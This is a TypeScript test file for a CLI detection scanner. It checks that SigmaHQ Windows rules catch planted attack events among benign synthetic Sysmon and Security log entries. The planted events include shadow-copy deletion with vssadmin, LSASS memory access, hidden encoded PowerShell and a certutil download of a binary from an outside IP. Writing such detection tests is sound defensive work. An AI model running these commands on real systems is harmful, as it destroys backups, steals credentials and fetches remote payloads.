import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { CliHarness } from './cli.testkit.js';
import { cliHarness } from './cli.testkit.js';
import { corpusPath } from '../kernel/corpora.testkit.js';

const SIGMA_WINDOWS = corpusPath('sigma', 'rules', 'windows');
const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

/** An event as EVTX-to-JSON converters write it. */
function evtx(
  channel: string,
  eventId: number,
  data: Record<string, string | number>,
  second: number,
): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: {
          '#attributes': {
            Name: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : 'Microsoft-Windows-Sysmon',
          },
        },
        EventID: eventId,
        TimeCreated: {
          '#attributes': { SystemTime: `2026-03-02T08:00:${String(second).padStart(2, '0')}.000000Z` },
        },
        EventRecordID: 1000 + second,
        Channel: channel,
        Computer: 'WS-0042.azdemo.local',
      },
      EventData: data,
    },
  });
}

const started = (image: string, commandLine: string, original: string) => ({
  Image: image,
  OriginalFileName: original,
  CommandLine: commandLine,
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  User: 'AZDEMO\\a.peeters',
  IntegrityLevel: 'High',
});

const benign = [
  evtx(
    SYSMON,
    1,
    started(
      'C:\\Program Files\\EHR\\bin\\EhrClient.exe',
      '"C:\\Program Files\\EHR\\bin\\EhrClient.exe" --ward',
      'EhrClient.exe',
    ),
    1,
  ),
  evtx(
    SYSMON,
    7,
    { Image: 'C:\\Windows\\explorer.exe', ImageLoaded: 'C:\\Windows\\System32\\ntdll.dll', Signed: 'true' },
    2,
  ),
  evtx('Security', 4624, { TargetUserName: 'a.peeters', LogonType: 2, IpAddress: '10.20.1.5' }, 3),
];

/** Planted attack steps and the SigmaHQ rule expected to catch each. */
const planted: [string, string][] = [
  [
    evtx(
      SYSMON,
      1,
      started(
        'C:\\Windows\\System32\\vssadmin.exe',
        'vssadmin.exe delete shadows /all /quiet',
        'VSSADMIN.EXE',
      ),
      4,
    ),
    'c947b146-0abc-4c87-9c64-b17e9d7274a2',
  ],
  [
    evtx(
      'Security',
      4688,
      {
        NewProcessName: 'C:\\Windows\\System32\\vssadmin.exe',
        CommandLine: 'vssadmin.exe delete shadows /all /quiet',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      },
      5,
    ),
    'c947b146-0abc-4c87-9c64-b17e9d7274a2',
  ],
  [
    evtx(
      SYSMON,
      10,
      {
        SourceImage: 'C:\\Users\\Public\\m64.exe',
        TargetImage: 'C:\\Windows\\system32\\lsass.exe',
        GrantedAccess: '0x1438',
        CallTrace:
          'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000002A1B3C)',
        SourceUser: 'AZDEMO\\a.peeters',
      },
      6,
    ),
    '5ef9853e-4d0e-4a70-846f-a9ca37d876da',
  ],
  [
    evtx(
      SYSMON,
      1,
      started(
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0A',
        'PowerShell.EXE',
      ),
      7,
    ),
    'ca2092a1-c273-4878-9b4b-0d60115bf5ea',
  ],
  [
    evtx(
      SYSMON,
      1,
      started(
        'C:\\Windows\\System32\\certutil.exe',
        'certutil.exe -urlcache -split -f http://203.0.113.17/u.bin C:\\Users\\Public\\u.exe',
        'CertUtil.exe',
      ),
      8,
    ),
    '19b08b1c-861d-4e75-a1ef-ea0c1baf202b',
  ],
];

describe.skipIf(!SIGMA_WINDOWS)('lifeline detect scan with the SigmaHQ Windows rules', () => {
  let cli: CliHarness;
  afterEach(() => cli.close());

  it('finds every planted attack among ordinary events under the windows pipeline', async () => {
    cli = cliHarness();
    const lines = [...benign, ...planted.map(([line]) => line), ...benign];
    writeFileSync(join(cli.dir, 'events.ndjson'), `${lines.join('\n')}\n`);
    const result = await cli.run([
      'detect',
      'scan',
      '--rules',
      SIGMA_WINDOWS ?? '',
      '--pipeline',
      'windows',
      '--events',
      'events.ndjson',
    ]);
    expect(result.code).toBe(0);
    const matches = result.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { ruleId: string; eventIndex: number; level: string });
    planted.forEach(([, ruleId], i) => {
      const index = benign.length + i;
      expect(matches.filter((m) => m.eventIndex === index).map((m) => m.ruleId)).toContain(ruleId);
    });
    const summary = JSON.parse(result.stderr.trim().split('\n').pop() ?? '{}') as {
      events: number;
      malformed: number;
    };
    expect(summary).toMatchObject({ events: lines.length, malformed: 0 });
  });
});
